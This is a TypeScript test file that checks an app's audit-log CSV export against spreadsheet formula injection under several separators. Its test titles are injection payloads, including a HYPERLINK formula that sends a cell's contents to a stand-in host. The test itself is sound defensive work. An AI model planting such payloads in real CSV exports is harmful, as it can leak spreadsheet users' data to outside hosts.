import { expect, it } from 'vitest';
import { describeEachDatabase } from '../helpers/test-app';

// The activity log's CSV opened by a spreadsheet with whatever separator it is set to: `;` (as the file
// is written, Indonesian settings), `,` (English settings) or a tab. No cell it sees may start a formula.

/**
 * Splits CSV text the way a spreadsheet reads it with `separator`: a quote opens a quoted cell only at
 * the start of a cell (`""` inside is one quote); anywhere else it is text. A line break outside quotes
 * ends the row.
 */
function spreadsheetCells(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let atStart = true;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
      continue;
    }
    if (char === '"' && atStart) {
      quoted = true;
      atStart = false;
    } else if (char === separator) {
      row.push(cell);
      cell = '';
      atStart = true;
    } else if (char === '\r' || char === '\n') {
      if (char === '\r' && text[i + 1] === '\n') i += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      atStart = true;
    } else {
      cell += char;
      atStart = false;
    }
  }
  if (cell || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** A cell a spreadsheet would run: a formula character first, after any spaces or tabs. */
const startsFormula = (cell: string) => /^[ \t\r\n]*[=+\-@]/.test(cell);

const TITLES = [
  'Panduan,=HYPERLINK("http://contoh.test/?q="&A1,"klik")',
  'Panduan, =1+1',
  'Panduan,+62 812',
  'Panduan;-1+2',
  'Panduan;@SUM(A1)',
  'Panduan,"=2+3"',
  '=HYPERLINK("http://contoh.test","klik")',
  'Biasa, tanpa rumus; dengan "kutip"',
];

describeEachDatabase('the activity CSV runs no formula whatever the separator', (ctx) => {
  it('no cell starts a formula read with ";", "," or a tab, and the ";" reading keeps every title', async () => {
    for (const title of TITLES) {
      const created = await ctx().asAdmin({
        method: 'POST',
        url: '/api/files/add',
        payload: {
          file_name: title,
          file_description: 'Panduan',
          file_url: 'https://drive.google.com/file/d/csv/view',
          file_type: 'panduan_penelitian',
        },
      });
      expect(created.statusCode, created.body).toBe(201);
    }
    const response = await ctx().asAdmin({ url: '/api/audit?format=csv&kind=file&action=create' });
    expect(response.statusCode).toBe(200);
    const text = response.body.replace(/^\uFEFF/, '');

    for (const separator of [';', ',', '\t']) {
      for (const row of spreadsheetCells(text, separator)) {
        for (const cell of row) expect(startsFormula(cell), `${JSON.stringify(separator)}: ${cell}`).toBe(false);
      }
    }

    // Read as written, each title is one cell, whole (a formula-looking start marked by an apostrophe).
    const rows = spreadsheetCells(text, ';');
    const header = rows[0] ?? [];
    const column = header.indexOf('Data');
    expect(column).toBeGreaterThan(0);
    for (const row of rows.slice(1)) expect(row).toHaveLength(header.length);
    const shown = rows.slice(1).map((row) => row[column]);
    for (const title of TITLES) expect(shown.map((cell) => cell?.replace(/'(?=[=+\-@])/g, ''))).toContain(title);
  });
});
